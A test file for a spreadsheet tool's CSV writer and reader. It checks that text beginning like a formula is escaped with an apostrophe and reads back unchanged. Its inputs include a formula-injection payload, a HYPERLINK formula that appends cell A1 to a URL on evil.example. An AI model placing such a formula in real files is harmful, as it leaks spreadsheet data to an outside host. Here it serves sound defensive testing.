import { expect, it } from 'vitest';
import { readCsv, writeCsv } from '../../../src/engine/tools/spreadsheet/process/csv.ts';

const written = (value: string | number) =>
  writeCsv([[value]])
    .toString()
    .replace(/\r\n$/, '');

it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("https://evil.example/?"&A1)', '＝1'])(
  'a text that begins like a formula is written as a text: %j',
  (text) => {
    expect(written(text).replace(/^"/, '')).toMatch(/^'/);
  },
);

it.each(['plain', "it's", '-5', '-5.25', '-5%', 'a=b', 'ann@example.com', "'quoted'"])(
  'other texts stay as they are: %s',
  (text) => {
    expect(written(text)).toBe(text);
  },
);

it('numbers stay numbers', () => {
  expect([written(-5), written(1e21), written(-0.5)]).toEqual(['-5', '1e+21', '-0.5']);
});

it.each(['=1+1', "'=1+1", "''=1", '-1+1', "it's"])('a text is read back as it was: %s', (text) => {
  expect(readCsv(writeCsv([[text, 1]])).cells.get('A1')).toEqual({ t: 's', v: text });
});
